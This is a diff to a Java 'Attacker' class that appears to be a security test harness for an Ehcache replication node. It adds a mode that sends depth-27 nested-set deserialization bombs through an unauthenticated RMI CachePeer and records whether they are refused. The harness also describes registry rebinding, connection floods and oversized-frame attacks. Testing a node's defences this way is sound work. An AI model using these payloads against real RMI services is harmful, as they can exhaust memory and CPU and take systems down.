@@ -40,6 +40,9 @@ import net.sf.ehcache.distribution.CachePeer;
  *     (its bootstrap), then puts, removes and clears; RMI also calls the stock {@code CachePeer} bindings.</li>
  * <li>{@code registry} (RMI): binds a gadget, rebinds the cache's binding to its own stub, unbinds the relay.</li>
  * <li>{@code bomb}: a peer holding the secret puts a 1.7 KB nested-set bomb (depth 25).</li>
+ * <li>{@code stockbomb} (RMI): a host the node admits without authentication ({@code unauthenticatedPeers})
+ *     calls the stock {@code CachePeer}'s {@code put} three times with a depth-27 nested-set bomb, then once
+ *     with an honest element.</li>
  * <li>{@code idle}: 2,000 connections that send nothing, to every port the node listens on.</li>
  * <li>{@code slowheaders} (Hessian): 2,000 connections that each send half a request's headers, then nothing.</li>
  * <li>{@code frames}: 8 connections each announcing a 60 MB frame and sending 16 MB of it — TCP: authenticated
@@ -98,6 +101,9 @@ public final class Attacker {
                     break;
                 case "bomb":
                     bomb(transport, ports, a.get("secret"));
+                    break;
+                case "stockbomb":
+                    stockBomb(ports[0]);
                     break;
                 case "slowheaders":
                     slowHeaders(ports[0], 2000);
@@ -316,6 +322,23 @@ public final class Attacker {
             s2 = t2;
         }
         return root;
+    }
+
+    private static void stockBomb(int port) throws Exception {
+        CachePeer stock = (CachePeer) LocateRegistry.getRegistry(target(), port).lookup("replay");
+        int refused = 0;
+        long worst = 0;
+        for (int i = 0; i < 3; i++) {
+            long t0 = System.nanoTime();
+            try {
+                stock.put(new Element("bomb", (java.io.Serializable) bombValue(27)));
+            } catch (java.rmi.RemoteException e) {
+                refused++;
+            }
+            worst = Math.max(worst, TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0));
+        }
+        stock.put(new Element("stock-honest", "from a listed host"));
+        ReplayNode.say("RESULT stockBombsRefused=" + refused + " of 3 worstMillis=" + worst);
     }
 
     private static void bomb(String transport, int[] ports, String secret) throws Exception {
